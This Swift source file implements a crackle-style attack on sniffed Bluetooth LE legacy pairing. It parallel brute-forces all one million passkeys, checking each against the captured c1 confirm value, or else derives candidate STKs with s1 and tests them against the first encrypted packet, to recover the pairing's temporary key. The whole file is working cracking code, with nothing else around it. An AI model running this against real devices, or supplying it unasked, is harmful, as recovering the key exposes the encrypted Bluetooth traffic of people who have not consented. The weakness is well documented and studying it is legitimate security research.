import Crypto
import Dispatch
import Foundation

/// Finds the TK of a sniffed LE legacy pairing (what crackle does): Just Works uses TK 0; Passkey Entry's TK
/// is the passkey, one of 1,000,000 values, found by recomputing the central's confirm value with c1 for each
/// (on every core), or, when the confirms were not captured, by deriving the STK with s1 for each and checking
/// the MIC of the first encrypted packet. Out of band TKs are 128 random bits: they cannot be searched.
public enum LegacyCracker {
    /// What c1 and s1 need, most significant octet first.
    public struct Inputs: Sendable {
        public var preq: [UInt8]
        public var pres: [UInt8]
        public var iat: UInt8
        public var rat: UInt8
        public var ia: [UInt8]
        public var ra: [UInt8]
        public var mrand: [UInt8]
        public var srand: [UInt8]
        public var mconfirm: [UInt8]?
        public var sconfirm: [UInt8]?

        public init(preq: [UInt8], pres: [UInt8], iat: UInt8, rat: UInt8, ia: [UInt8], ra: [UInt8], mrand: [UInt8], srand: [UInt8],
                    mconfirm: [UInt8]?, sconfirm: [UInt8]?) {
            self.preq = preq; self.pres = pres; self.iat = iat; self.rat = rat; self.ia = ia; self.ra = ra
            self.mrand = mrand; self.srand = srand; self.mconfirm = mconfirm; self.sconfirm = sconfirm
        }
    }

    public static let passkeys = 1_000_000

    /// The TK (0 for Just Works, else the passkey) whose c1 gives the sniffed confirm value(s), searching all
    /// passkeys when `allPasskeys`; nil when none does.
    public static func searchConfirm(_ x: Inputs, allPasskeys: Bool) -> Int? {
        guard let p1 = LegacyPairingFunctions.p1(preq: x.preq, pres: x.pres, iat: x.iat, rat: x.rat),
              let p2 = LegacyPairingFunctions.p2(ia: x.ia, ra: x.ra) else { return nil }
        // Check against the central's confirm, or the peripheral's when only it was captured.
        let target: (confirm: [UInt8], random: [UInt8])
        if let m = x.mconfirm, m.count == 16, x.mrand.count == 16 { target = (m, x.mrand) }
        else if let s = x.sconfirm, s.count == 16, x.srand.count == 16 { target = (s, x.srand) }
        else { return nil }
        let first = LEAES.xor(target.random, p1)
        let confirm = target.confirm
        let matches: @Sendable (Int) -> Bool = { tk in
            let key = SymmetricKey(data: LegacyPairingFunctions.tk(passkey: tk))
            var block = first
            LEAES.e(key, &block)
            for i in 0..<16 { block[i] ^= p2[i] }
            LEAES.e(key, &block)
            return block == confirm
        }
        return search(allPasskeys ? passkeys : 1, matches)
    }

    /// The TK whose STK decrypts the first encrypted packet (crackle's second strategy), for captures without
    /// the confirm values. `verify` decrypts with a candidate STK.
    public static func searchMIC(_ x: Inputs, allPasskeys: Bool, verify: @escaping @Sendable ([UInt8]) -> Bool) -> Int? {
        guard x.mrand.count == 16, x.srand.count == 16 else { return nil }
        let r = Array(x.srand[8...]) + Array(x.mrand[8...])
        return search(allPasskeys ? passkeys : 1) { tk in
            var stk = r
            LEAES.e(SymmetricKey(data: LegacyPairingFunctions.tk(passkey: tk)), &stk)
            return verify(stk)
        }
    }

    /// The lowest value in 0..<count for which `test` holds, tried on every core.
    static func search(_ count: Int, _ test: @escaping @Sendable (Int) -> Bool) -> Int? {
        if test(0) { return 0 }
        guard count > 1 else { return nil }
        let found = Found()
        let chunks = 64
        let size = (count + chunks - 1) / chunks
        DispatchQueue.concurrentPerform(iterations: chunks) { chunk in
            let start = max(1, chunk * size), end = min(count, (chunk + 1) * size)
            var v = start
            while v < end {
                if v & 0x3FF == 0, found.isDone(before: chunk) { return }
                if test(v) { found.set(v, chunk: chunk); return }
                v += 1
            }
        }
        return found.value
    }

    /// The result of a parallel search: the match in the lowest chunk wins.
    final class Found: @unchecked Sendable {
        let lock = NSLock()
        var value: Int?
        var chunk = Int.max

        func set(_ v: Int, chunk c: Int) {
            lock.lock(); defer { lock.unlock() }
            if c < chunk { chunk = c; value = v }
        }

        /// A match was found in an earlier chunk: this one need not go on.
        func isDone(before c: Int) -> Bool {
            lock.lock(); defer { lock.unlock() }
            return chunk < c
        }
    }
}
